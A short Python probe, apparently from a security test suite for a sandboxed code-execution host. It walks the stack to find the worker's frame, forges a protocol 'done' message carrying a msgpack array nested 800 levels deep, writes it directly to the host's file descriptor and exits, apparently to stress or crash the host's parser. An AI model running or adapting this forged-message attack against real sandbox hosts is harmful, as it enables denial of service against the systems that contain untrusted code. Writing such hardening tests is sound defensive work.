# class: proto
# Ends under its true name with an answer nested 800 deep, for what the host does with it afterwards.
import os,sys
from guest.worker.msgpack import pack
f=sys._getframe()
while not (isinstance(f.f_locals.get("frame"),dict) and "cell" in f.f_locals["frame"]): f=f.f_back
b=pack({"op":"done","cell":f.f_locals["frame"]["cell"],"head":"","tail":"","chars":0,"error":None,"final":None,"names":[],"wall_s":0.0})
b=b.replace(pack("final")+b"\xc0",pack("final")+b"\x81"+pack("value")+b"\x91"*800+b"\xc0")
os.write(3,len(b).to_bytes(4,"little")+b); os._exit(0)
